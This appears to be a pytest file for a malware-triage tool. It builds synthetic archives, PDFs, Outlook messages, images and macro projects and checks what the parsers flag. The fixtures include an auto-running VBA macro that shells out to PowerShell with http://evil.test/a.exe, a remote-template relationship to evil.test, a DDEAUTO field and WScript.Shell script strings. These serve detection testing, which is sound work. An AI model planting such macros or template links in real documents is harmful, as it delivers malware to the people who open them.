"""Readers of formats by their layouts, on files built here."""

import base64
import bz2
import json
import lzma
import struct
import zlib

import pytest

from siftwood.functions import archives, compound, exif, formats, fuzzy, outlook, pdf, tools, vba, yara
from siftwood.functions.formats import File
from tests.test_compound import build


def told(outcome):
    return {r["key"]: r for r in outcome.reports}


def held(outcome):
    return {c["filename"]: c["content"] for c in outcome.children}


# --- macros -------------------------------------------------------------------------------------------------------


def packed(raw):
    """A compressed container of literals only."""
    out = b"\x01"
    for k in range(0, len(raw), 3600):
        body = b"".join(b"\0" + raw[i : i + 8] for i in range(k, min(k + 3600, len(raw)), 8))
        out += struct.pack("<H", len(body) - 1 | 0x3000 | 0x8000) + body
    return out


def macro_file(sources, folder="VBA"):
    records = struct.pack("<HIH", 0x0003, 2, 1252) + struct.pack("<HIIH", 0x0009, 4, 1, 1)
    streams = {}
    for name, code in sources.items():
        raw = name.encode("cp1252")
        records += struct.pack("<HI", 0x0019, len(raw)) + raw + struct.pack("<HI", 0x001A, len(raw)) + raw
        records += struct.pack("<HII", 0x0031, 4, 7) + struct.pack("<HI", 0x002B, 0)
        streams[f"{folder}/{name}"] = b"garbage" + packed(code.encode("cp1252"))
    return build({f"{folder}/dir": packed(records), **streams}, storages=(folder,))


CODE = 'Sub AutoOpen()\n  x = Shell("cmd /c powershell http://evil.test/a.exe")\n  y = "68656c6c6f21"\n  z = "aGVsbG8gd29ybGQgYWdhaW4="\nEnd Sub\n'


def test_containers_with_back_references():
    # the published example: 11 equal letters as one literal and one reference
    assert vba.decompress(bytes([0x01, 0x03, 0xB0, 0x02, 0x61, 0x45, 0x00])) == b"a" * 73
    example = bytes.fromhex("0119B000616263646566676800696A6B6C6D6E6F7000717273747576 2E".replace(" ", ""))
    assert vba.decompress(example) == b"abcdefghijklmnopqrstuv."
    assert vba.decompress(packed(CODE.encode() * 200)) == CODE.encode() * 200
    with pytest.raises(ValueError):
        vba.decompress(b"\x02")
    assert vba.decompress(b"\x01\x03\xb0\x01\x61") == b""  # a reference before any byte


def test_modules_and_findings():
    raw = macro_file({"Module1": CODE, "Other": "Sub b()\nEnd Sub"})
    assert [(m.name, m.code) for m in vba.modules(compound.entries(raw))] == [("Module1", CODE.strip()), ("Other", "Sub b()\nEnd Sub")]
    out = vba.macro_project(File(raw, "vbaProject.bin", ""))
    found = told(out)
    assert found["macros_found"]["severity"] == 0 and found["vba_source_Module1"]["text"] == CODE.strip()
    by_text = {r["text"]: r["severity"] for k, r in found.items() if k.startswith("vba_suspicious_")}
    assert by_text["VBA module 'Module1': AutoExec: Runs by itself — AutoOpen"] == 1
    assert by_text["VBA module 'Module1': Suspicious: May run an executable file or a system command — Shell"] == 0
    assert any("IOC: URL — http://evil.test/a.exe" in t for t in by_text) and any("Hex String: hello! — 68656c6c6f21" in t for t in by_text)
    assert any("Base64 String: hello world again" in t for t in by_text)
    assert held(out)["vba_source_Module1.vba"] == CODE.strip().encode()
    assert set(told(vba.macro_project(File(b"nothing", "vbaProject.bin", "")))) == {"macros_found"}


def test_documents_tell_their_macros():
    out = compound.compound_document(File(macro_file({"ThisDocument": CODE}), "a.doc", ""))
    assert told(out)["has_vba"]["severity"] == 0 and "vba_source_ThisDocument" in told(out) and "vba_source_ThisDocument.vba" in held(out)


# --- archives -----------------------------------------------------------------------------------------------------


def number(n):
    """A 7z number."""
    for k in range(8):
        if n < 1 << (7 * (k + 1)):
            first = (0xFF00 >> k & 0xFF) | n >> (8 * k)
            return bytes([first]) + (n & ((1 << (8 * k)) - 1)).to_bytes(k, "little")
    return b"\xff" + n.to_bytes(8, "little")


LZMA2_24 = {"id": lzma.FILTER_LZMA2, "dict_size": 1 << 24}
CODERS = {
    "copy": (b"\x01\x00", lambda raw: raw),
    "lzma2": (b"\x21\x21\x01\x18", lambda raw: lzma.compress(raw, lzma.FORMAT_RAW, filters=[LZMA2_24])),
    "lzma": (b"\x23\x03\x01\x01\x05\x5d" + struct.pack("<I", 1 << 24), lambda raw: lzma.compress(raw, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 24, "lc": 3, "lp": 0, "pb": 2}])),
    "deflate": (b"\x03\x04\x01\x08", lambda raw: zlib.compress(raw, wbits=-15)),
    "bzip2": (b"\x03\x04\x02\x02", bz2.compress),
    "aes": (b"\x24\x06\xf1\x07\x01\x01\x00", lambda raw: raw),
}


def seven_zip(members, coder="lzma2", packed_header=False, claimed=None):
    """An archive with one folder for all members that have bytes; None stands for a folder entry."""
    full = {k: v for k, v in members.items() if v}
    raw = b"".join(full.values())
    description, pack = CODERS[coder]
    if isinstance(description, bytes):
        coders, sizes = [description], [len(raw)]
    body = pack(raw)
    streams = b"\x06" + number(0) + number(1) + b"\x09" + number(len(body)) + b"\x00"
    streams += b"\x07\x0b" + number(1) + b"\x00" + number(len(coders)) + b"".join(coders) + b"\x0c" + b"".join(map(number, [claimed] if claimed else sizes)) + b"\x00"
    inner = [len(v) for v in full.values()]
    if claimed:
        inner = [claimed]
    streams += b"\x08\x0d" + number(len(inner)) + b"\x09" + b"".join(map(number, inner[:-1])) + b"\x0a\x01" + b"\0" * 4 * len(inner) + b"\x00" + b"\x00"
    bits = lambda xs: int("".join("1" if x else "0" for x in xs).ljust(-(-len(xs) // 8) * 8, "0"), 2).to_bytes(-(-len(xs) // 8), "big")
    empty = [not v for v in members.values()]
    names = b"\0" + b"".join(k.encode("utf-16-le") + b"\0\0" for k in members)
    files = number(len(members))
    if any(empty):
        files += b"\x0e" + number(len(bits(empty))) + bits(empty)
        marks = [v is not None for v in members.values() if not v]
        files += b"\x0f" + number(len(bits(marks))) + bits(marks)
    files += b"\x11" + number(len(names)) + names + b"\x00"
    header = b"\x01" + (b"\x04" + streams if full else b"") + b"\x05" + files + b"\x00"
    if packed_header:
        coded = CODERS["lzma2"][1](header)
        at, body = len(body), body + coded
        header = b"\x17\x06" + number(at) + number(1) + b"\x09" + number(len(coded)) + b"\x00" + b"\x07\x0b" + number(1) + b"\x00" + number(1) + CODERS["lzma2"][0] + b"\x0c" + number(len(header)) + b"\x00\x00"
    start = struct.pack("<QQI", len(body), len(header), zlib.crc32(header))
    return archives.SEVEN_ZIP + b"\0\4" + struct.pack("<I", zlib.crc32(start)) + start + body + header


MEMBERS = {"a.txt": b"hello " * 500, "folder": None, "deep/b.bin": bytes(range(256)) * 10, "empty.txt": b""}


@pytest.mark.parametrize("coder", ["copy", "lzma2", "lzma", "deflate", "bzip2"])
@pytest.mark.parametrize("packed_header", [False, True])
def test_seven_zip(coder, packed_header):
    out = archives.seven_zip(File(seven_zip(MEMBERS, coder, packed_header), "a.7z", ""))
    assert held(out) == {"a.txt": MEMBERS["a.txt"], "deep/b.bin": MEMBERS["deep/b.bin"], "empty.txt": b""}
    assert out.info == "4 compressed file(s)" and "deep/b.bin [2560]" in told(out)["summary"]["text"]


def test_seven_zip_locked_bombs_and_damage():
    out = archives.seven_zip(File(seven_zip({"a": b"x" * 50}, "aes"), "a.7z", ""))
    assert told(out)["encrypted"]["severity"] == 3 and "a <encrypted> [50]" in told(out)["summary"]["text"] and not out.children
    bomb = seven_zip({"a": b"\0" * 3_000_000})
    assert "bomb" in told(archives.seven_zip(File(bomb, "a.7z", "")))["error"]["text"]
    huge = seven_zip({"a": b"x"}, "copy", claimed=1 << 31)
    assert "bomb" in told(archives.seven_zip(File(huge, "a.7z", "")))["error"]["text"]
    good = seven_zip(MEMBERS)
    for raw in (b"", b"7z", good[:-5], good[:40], good[:32] + b"\xff" * len(good[32:])):
        assert archives.seven_zip(File(raw, "a.7z", "")).reports


def vint(n):
    out = b""
    while True:
        n, low = n >> 7, n & 127
        out += bytes([low | (128 if n else 0)])
        if not n:
            return out


def rar_5(members):
    out = archives.RAR_5
    for name, data, method, locked in members:
        extra = vint(2) + vint(1) + b"\0" if locked else b""
        head = vint(2) + vint(2 | bool(extra)) + (vint(len(extra)) if extra else b"") + vint(len(data)) + vint(0) + vint(len(data)) + vint(0) + vint(method << 7) + vint(0) + vint(len(name)) + name.encode() + extra
        out += b"\0" * 4 + vint(len(head)) + head + data
    return out + b"\0" * 4 + vint(3) + vint(5) + vint(0) + vint(0)


def rar_4(members):
    out = archives.RAR_4 + struct.pack("<HBHH", 0, 0x73, 0, 13) + b"\0" * 6
    for name, data, method, locked in members:
        fields = struct.pack("<IIBIIBBHI", len(data), len(data), 0, 0, 0, 29, 0x30 + method, len(name), 0) + name.encode()
        out += struct.pack("<HBHH", 0, 0x74, 0x8000 | 4 * locked, 7 + len(fields)) + fields + data
    return out + struct.pack("<HBHH", 0, 0x7B, 0, 7)


@pytest.mark.parametrize("made", [rar_4, rar_5])
def test_rar(made):
    raw = made([("a.txt", b"stored bytes", 0, False), ("b.txt", b"packed", 3, False), ("c.txt", b"secret", 0, True)])
    out = archives.rar(File(raw, "a.rar", ""))
    assert told(out)["summary"]["text"] == "a.txt [12]\nb.txt [6]\nc.txt <encrypted> [6]"
    assert held(out) == {"a.txt": b"stored bytes"} and told(out)["not_unpacked"]["text"] == "b.txt" and "encrypted" in told(out)
    for cut in (b"", raw[:9], raw[: len(raw) // 2]):
        archives.rar(File(cut, "a.rar", ""))
    assert told(archives.rar(File(b"no rar", "a.rar", "")))["error"]


# --- PDF ----------------------------------------------------------------------------------------------------------


def stream(fields, raw, form=None):
    body = {"FlateDecode": zlib.compress, "ASCIIHexDecode": lambda b: b.hex().encode() + b">", "ASCII85Decode": lambda b: base64.a85encode(b) + b"~>", None: bytes}[form](raw)
    return b"<< " + fields + (b" /Filter /" + form.encode() if form else b"") + b" /Length " + str(len(body)).encode() + b" >>\nstream\n" + body + b"\nendstream"


def pdf_file(form="FlateDecode", objects=None, trailer=b"/Root 1 0 R /Info 9 0 R"):
    cmap = b"1 beginbfchar <01> <0048> endbfchar 1 beginbfrange <02> <04> <0069> endbfrange"
    every = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x) 7 0 R] >> >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /Resources << /Font << /F1 5 0 R >> >> >>",
        3: b"<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>",
        4: b"<< /Type /Page /Parent 2 0 R /Contents [11 0 R] >>",
        5: b"<< /Type /Font /Subtype /Type1 /ToUnicode 10 0 R >>",
        6: stream(b"", b"BT /F2 12 Tf 72 700 Td (Hello \\(world\\)) Tj 0 -14 Td [(sec) -50 (ond) -400 (line)] TJ ET", form),
        7: b"<< /Type /Filespec /F (note.txt) /EF << /F 8 0 R >> >>",
        8: stream(b"/Type /EmbeddedFile", b"attached bytes", form),
        9: b"<< /Title (A title) /Author <FEFF00C400D6> /Producer (maker) >>",
        10: stream(b"", cmap, form),
        11: stream(b"", b"BT /F1 9 Tf (\\001\\002\\003) Tj ET", form),
    } | (objects or {})
    out = b"%PDF-1.7\n"
    for n, body in every.items():
        out += str(n).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    return out + b"trailer << " + trailer + b" >>\n%%EOF"


@pytest.mark.parametrize("form", [None, "FlateDecode", "ASCIIHexDecode", "ASCII85Decode"])
def test_pdf(form):
    out = pdf.portable_document(File(pdf_file(form), "a.pdf", ""))
    found = told(out)
    assert found["pagecount"]["text"] == "2" and found["title"]["text"] == "A title" and found["author"]["text"] == "ÄÖ" and found["producer"]["text"] == "maker"
    assert found["text"]["text"] == "Hello (world)\nsecond line\nHij"
    assert held(out) == {None: b"Hello (world)\nsecond line\nHij", "x": b"attached bytes"}


def test_pdf_with_object_streams_and_row_filters():
    inner = {3: b"<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>", 12: b"<< /Title (from a stream) >>"}
    places, body = b"", b""
    for n, raw in inner.items():
        places += b"%d %d " % (n, len(body))
        body += raw + b" "
    rows = places + body
    raw = pdf_file(objects={3: b"null"})
    raw = raw.replace(b"3 0 obj\nnull\nendobj\n", b"13 0 obj\n" + stream(b"/Type /ObjStm /N 2 /First %d" % len(places), rows, "FlateDecode") + b"\nendobj\n").replace(b"/Info 9 0 R", b"/Info 12 0 R")
    out = pdf.portable_document(File(raw, "a.pdf", ""))
    assert told(out)["title"]["text"] == "from a stream" and told(out)["pagecount"]["text"] == "2"
    up = bytes([2, 1, 2, 3]) + bytes([2, 1, 1, 1])
    assert pdf._predicted(up, {"Predictor": 12, "Columns": 3}) == bytes([1, 2, 3, 2, 3, 4])
    assert pdf._runs(bytes([2, 97, 98, 99, 254, 100, 128])) == b"abcddd"
    assert pdf._lzw(bytes.fromhex("800B6050220C0C8501")) == bytes([45, 45, 45, 45, 45, 65, 45, 45, 45, 66])


def test_pdf_locked_and_damaged():
    out = pdf.portable_document(File(pdf_file(trailer=b"/Root 1 0 R /Encrypt 20 0 R"), "a.pdf", ""))
    assert "encrypted" in told(out) and not out.children
    good = pdf_file()
    for raw in (b"", b"%PDF-1.4", good[:300], good.replace(b"endstream", b"x"), b"%PDF-1.4 1 0 obj << /Kids [1 0 R] /A 1 0 R >> endobj trailer << /Root 1 0 R >>", b"%PDF-" + b"[" * 5000, b"%PDF- 1 0 obj 1 0 R endobj trailer << /Root 1 0 R >>"):
        assert pdf.portable_document(File(raw, "a.pdf", "")).reports


# --- Outlook ------------------------------------------------------------------------------------------------------


def properties(head, *rows):
    return b"\0" * head + b"".join(struct.pack("<HHI", kind, number, 6) + value.ljust(8, b"\0") for kind, number, value in rows)


def message_streams():
    u = lambda s: s.encode("utf-16-le")
    headers = "Received: from m.example (m.example [93.184.216.34]) by mx.corp.example (Postfix) with ESMTP id AB1; Mon, 1 Jan 2024 09:50:00 +0000\r\nAuthentication-Results: mx.corp.example; spf=fail; dkim=pass header.d=other.example\r\nFrom: Boss <boss@corp.example>\r\n"
    ticks = (13348578600 * 10_000_000).to_bytes(8, "little")  # 2024-01-01 10:30
    return {
        "__properties_version1.0": properties(32, (0x0040, 0x0039, ticks)),
        "__substg1.0_0037001F": u("A subject"), "__substg1.0_0C1A001F": u("Boss"), "__substg1.0_5D01001F": u("boss@corp.example"),
        "__substg1.0_007D001F": u(headers), "__substg1.0_1000001F": u("The body: 8.8.8.8"), "__substg1.0_10130102": b"<html><body>x</body></html>",
        "__substg1.0_1035001F": u("<id@corp.example>"),
        "__recip_version1.0_#00000000/__substg1.0_3001001F": u("Ann"), "__recip_version1.0_#00000000/__substg1.0_39FE001F": u("ann@corp.example"),
        "__recip_version1.0_#00000000/__properties_version1.0": properties(8, (0x0003, 0x0C15, b"\1")),
        "__attach_version1.0_#00000000/__substg1.0_3707001F": u("run.exe"), "__attach_version1.0_#00000000/__substg1.0_37010102": b"MZ bytes",
    }


def test_outlook_message():
    streams = message_streams()
    raw = build(streams, storages=("__recip_version1.0_#00000000", "__attach_version1.0_#00000000"))
    out = outlook.outlook_message(File(raw, "a.msg", ""))
    found = told(out)
    assert out.info == "A subject" and "From: Boss <boss@corp.example>\nTo: Ann <ann@corp.example>" in found["summary"]["text"]
    assert found["email_date"]["data"]["timestamp"].startswith("2024-01-01T10:30") and "SPF=fail" in found["auth_results"]["text"] and "dmarc_alignment" in found
    assert len(out.hops) == 1 and out.hops[0]["from_ip"] == "93.184.216.34"
    assert held(out) == {"email_body.txt": b"The body: 8.8.8.8", "email_body.html": streams["__substg1.0_10130102"], "run.exe": b"MZ bytes"}
    for raw in (b"", build({"WordDocument": b"x"})):
        assert "error" in told(outlook.outlook_message(File(raw, "a.msg", "")))


def test_attached_outlook_message():
    inner = ("__attach_version1.0_#00000000", "__substg1.0_3701000D")
    entry = lambda path, kind="stream", raw=b"": compound.Entry(path, kind, "", raw)
    found = [entry((), "root"), entry(inner[:1], "storage"), entry(inner, "storage"), entry((*inner, "__substg1.0_0037001F"), raw="inner".encode("utf-16-le")), entry((*inner, "__substg1.0_1000001F"), raw="inner body".encode("utf-16-le")), entry((*inner, "__properties_version1.0"), raw=b"\0" * 24)]
    [(name, raw, mime)] = outlook._attachments(found, ())
    assert (name, mime) == ("message.eml", "message/rfc822") and b"Subject: inner" in raw and b"inner body" in raw


# --- images -------------------------------------------------------------------------------------------------------


def tiff(entries_, gps=()):
    """Little-endian directories: texts, shorts and rationals."""
    def directory(rows, at):
        body, tail = struct.pack("<H", len(rows)), b""
        begin = at + 2 + 12 * len(rows) + 4
        for tag, kind, value in rows:
            raw = {2: lambda v: v.encode() + b"\0", 3: lambda v: struct.pack("<H", v), 4: lambda v: struct.pack("<I", v), 5: lambda v: b"".join(struct.pack("<II", *p) for p in v)}[kind](value)
            n = {2: len(raw), 3: 1, 4: 1, 5: len(raw) // 8}[kind]
            body += struct.pack("<HHI", tag, kind, n) + (raw.ljust(4, b"\0") if len(raw) <= 4 else struct.pack("<I", begin + len(tail)))
            tail += raw if len(raw) > 4 else b""
        return body + b"\0" * 4 + tail

    own = directory([*entries_, (exif.GPS_PLACE, 4, 0)], 8) if gps else directory(entries_, 8)
    if gps:
        own = directory([*entries_, (exif.GPS_PLACE, 4, 8 + len(own))], 8)
    return b"II*\0" + struct.pack("<I", 8) + own + (directory(gps, 8 + len(own)) if gps else b"")


FIELDS = [(0x0100, 3, 40), (0x0101, 3, 30), (0x010F, 2, "Maker"), (0x0131, 2, "Editor 1.0 " + "x" * 300), (0x0132, 2, "2024:01:01 10:00:00")]
GPS = [(1, 2, "N"), (2, 5, [(52, 1), (30, 1), (0, 1)])]


def test_exif_fields_of_every_carrier():
    inner = tiff(FIELDS, GPS)
    app1 = b"Exif\0\0" + inner
    chunk = lambda kind, raw: struct.pack(">I", len(raw)) + kind + raw + b"\0" * 4
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x10\0\0\0" + (39).to_bytes(3, "little") + (29).to_bytes(3, "little") + b"EXIF" + struct.pack("<I", len(inner)) + inner
    files = {
        "JPEG": b"\xff\xd8\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + b"\xff\xc0\0\x11\x08" + struct.pack(">HHB", 30, 40, 3) + b"\0" * 9,
        "PNG": b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 40, 30, 8, 6, 0, 0, 0)) + chunk(b"eXIf", inner),
        "TIFF": inner,
        "WEBP": b"RIFF" + struct.pack("<I", len(body)) + body,
    }
    for kind, raw in files.items():
        out = exif.image(File(raw, None, ""))
        found = told(out)
        assert out.info.startswith(f"{kind} 40x30 "), out.info
        assert found["gps"]["severity"] == 2 and "GPSLatitude: [52.0, 30.0, 0.0]" in found["gps"]["text"]
        assert "Make: Maker" in found["exif"]["text"] and "x..." in found["exif"]["text"] and "Camera make: Maker" in found["exif_highlights"]["text"]
    assert told(exif.image(File(files["PNG"], None, "")))["mode"]["text"] == "RGBA"
    for raw in files.values():
        for cut in range(0, len(raw), 7):
            exif.image(File(raw[:cut], None, ""))


# --- rules, hashes, programs --------------------------------------------------------------------------------------

RULES = r"""
import "pe"
private rule Helper { strings: $a = "mark" condition: $a }
rule Words : one two {
  meta: author = "me" level = 3 sure = true
  strings:
    $a = "Evil" nocase   // a comment
    $b = "wide" wide
    $c = /ab+c\d{2}/
    $d = { 4D 5A [2-4] 9? (AA | BB) ?? }
    $w = "word" fullword
  condition: any of them and filesize < 1KB
}
rule Counted { strings: $a = "na" condition: #a >= 3 and @a[1] == 0 and not Helper }
rule Numbers { condition: uint16(0) == 0x5A4D and uint32be(0) & 0xFFFF0000 == 0x4D5A0000 }
rule Some { strings: $x1 = "one" $x2 = "two" $y = "three" condition: 2 of ($x*) or (all of ($y) and $y at 4) or $y in (100..200) }
rule Uses { condition: Helper and true }
rule Loops { condition: for all i in (1..3) : ( i > 0 ) }
rule After { strings: $a = "after" condition: $a }
"""


def test_rules():
    rules, unread = yara.compile_rules({"r.yar": RULES})
    assert [x[1] for x in unread] == ["Loops"] and [r.name for r in rules][-1] == "After"
    names = lambda raw: [m["rule"] for m in yara.match(rules, raw)]
    assert names(b"an eViL thing") == ["Words"] and names(b"w\0i\0d\0e\0") == ["Words"] and names(b"abbbc12") == ["Words"]
    assert names(b"MZ123\x9f\xbb!") == ["Words", "Numbers"] and names(b"MZ1\x9f\xbb!") == ["Numbers"]
    assert names(b"keyword") == [] and names(b"a word.") == ["Words"]
    assert names(b"nanana") == ["Counted"] and names(b"nana") == [] and names(b"nanana mark") == ["Uses"]
    assert names(b"one two") == ["Some"] and names(b"one") == [] and names(b"____three") == ["Some"] and names(b"_three") == [] and names(b"_" * 150 + b"three") == ["Some"]
    assert names(b"evil" + b"x" * 2000) == [] and names(b"after") == ["After"]
    assert yara.match(rules, b"evil")[0] == {"rule": "Words", "namespace": "r.yar", "tags": ["one", "two"], "meta": {"author": "me", "level": 3, "sure": True}}


def slow_hash(raw):
    """The same hash byte by byte, as it is published."""
    block = 3
    while block * 64 < len(raw):
        block *= 2
    while True:
        window, a, b, c = [0] * 7, 0, 0, 0
        one, two, h1, h2 = "", "", 0x28021967, 0x28021967
        for n, x in enumerate(raw):
            h1, h2 = (h1 * 0x01000193 & 0xFFFFFFFF) ^ x, (h2 * 0x01000193 & 0xFFFFFFFF) ^ x
            b = b - a + 7 * x
            a += x - window[n % 7]
            window[n % 7] = x
            c = (c << 5 & 0xFFFFFFFF) ^ x
            h = (a + b + c) & 0xFFFFFFFF
            if h % block == block - 1 and len(one) < 63:
                one, h1 = one + fuzzy.ALPHABET[h1 & 63], 0x28021967
            if h % (2 * block) == 2 * block - 1 and len(two) < 31:
                two, h2 = two + fuzzy.ALPHABET[h2 & 63], 0x28021967
        if block > 3 and len(one) < 32:
            block //= 2
            continue
        if raw and h:
            one, two = one + fuzzy.ALPHABET[h1 & 63], two + fuzzy.ALPHABET[h2 & 63]
        return f"{block}:{one}:{two}"


def test_piecewise_hashes():
    import random

    rng = random.Random(5)
    assert fuzzy.piecewise_hash(b"") == "3::"
    for n in (1, 5, 100, 1000, 5000, 40_000):
        for raw in (rng.randbytes(n), bytes(rng.choice(b"abc ") for _ in range(n)), b"a" * n, b"\0" * n):
            assert fuzzy.piecewise_hash(raw) == slow_hash(raw)
    raw = rng.randbytes(20_000)
    changed = raw[:9000] + b"something else" + raw[9000:]
    assert fuzzy.likeness(fuzzy.piecewise_hash(raw), fuzzy.piecewise_hash(changed)) > 80
    assert fuzzy.likeness(fuzzy.piecewise_hash(raw), fuzzy.piecewise_hash(raw)) == 100
    assert fuzzy.likeness(fuzzy.piecewise_hash(raw), fuzzy.piecewise_hash(rng.randbytes(20_000))) == 0


def test_metadata_answers():
    answer = json.dumps([{"SourceFile": "-", "ExifTool:ExifToolVersion": 12, "File:FileSize": "3", "File:FileType": "PNG", "XMP:Tags": ["a", "", "b"], "XMP:Empty": "", "XMP:None": None, "XMP:Bad": "Unknown", "plain": 1}])
    groups = tools.metadata_groups(answer)
    assert groups == {"File": {"FileType": "PNG"}, "XMP": {"Tags": "a, b"}}
    out = formats.Outcome()
    tools.tell_metadata(out, groups)
    assert out.reports[0]["text"] == "[File]\n  FileType : PNG\n[XMP]\n  Tags : a, b" and out.reports[0]["short"] == "2 exiftool field(s)"
    assert tools.metadata_groups(b"no json") == {} and tools.metadata_groups("[]") == {}


def test_sandbox_answers(tmp_path):
    (tmp_path / "urls.json").write_text('["http://a.test", "http://b.test"]')
    (tmp_path / "active_urls.json").write_text('["http://b.test"]')
    (tmp_path / "IOC.json").write_text('["x"]')
    (tmp_path / "snippets.json").write_text(json.dumps(["short", "a piece of code that is long enough"]))
    (tmp_path / "resources.json").write_text('[{"filename": "d.exe", "type": "exe"}, "plain"]')
    (tmp_path / "broken.json").write_text("{")
    (tmp_path / "analysis.log").write_text("log")
    (tmp_path / "payload.exe").write_bytes(b"MZ")
    found = tools.sandbox_results(str(tmp_path))
    out = formats.Outcome()
    tools.tell_sandbox(out, found)
    assert {r["key"]: r["severity"] for r in out.reports} == {"boxjs_urls": 0, "boxjs_iocs": 1, "boxjs_snippets": 2, "boxjs_resources": 1}
    assert "[ACTIVE] http://b.test" in out.reports[0]["text"] and held(out) == {"boxjs_snippet_1.txt": b"a piece of code that is long enough", "payload.exe": b"MZ"}
    assert tools.run_sandbox(b"x") is None and tools.deobfuscated("x") is None  # neither program is installed here


def test_scripts_laid_out_and_scanned_again():
    source = "function f(a){if(a){for(var i=0;i<3;i++){g('{;}');}}else{h();}return 1;}/* c */f(2);"
    text = tools.beautified(source)
    assert text.splitlines() == ["function f(a){", "    if(a){", "        for(var i=0;i<3;i++){", "            g('{;}');", "        }", "    }else{", "        h();", "    }", "    return 1;", "}", "/* c */", "f(2);"]
    assert tools.much_changed(source, text) and not tools.much_changed("x = 1;\n" * 3, "x = 1;\n" * 3)
    out = formats.Outcome()
    known = formats.threats("new ActiveXObject('WScript.Shell').Run('x')")
    formats.rescan(out, "new ActiveXObject('WScript.Shell').Run('x'); new ActiveXObject('MSXML2.XMLHTTP'); new ActiveXObject('ADODB.Stream')", "Deobfuscated", known)
    names = {r["short"] for r in out.reports if r["key"].startswith("threat_")}
    assert names and not {f"[deobf] {t['pattern']}" for t in known} & names and "kill_chain" in told(out)
    out = formats.script(File(source.encode(), "a.js", ""))
    assert held(out)["beautified.js"] == text.encode()


# --- parts of packages --------------------------------------------------------------------------------------------


def test_parts_by_themselves():
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/><Relationship Id="b" Type="http://x/image" Target="i.png"/><Relationship Id="c" Type="http://x/hyperlink" Target="http://a.test" TargetMode="External"/></Relationships>'
    out = formats.relationships_part(File(rels, "document.xml.rels", ""))
    assert {r["key"]: r["severity"] for r in out.reports} == {"external_link_0": 0, "external_link_2": 1} and out.info == "2 external relationship(s)"
    assert "parse_error" in told(formats.relationships_part(File(b"<x", "a.rels", "")))
    assert formats.relationships_part(File(b"<x/>", "a.rels", "")).info == "No external relationships"
    out = formats.document_part(File(b"<a>DDEAUTO c:\\x</a>", "word/document.xml", ""))
    assert told(out)["dde_word/document.xml_1"]["severity"] == 0
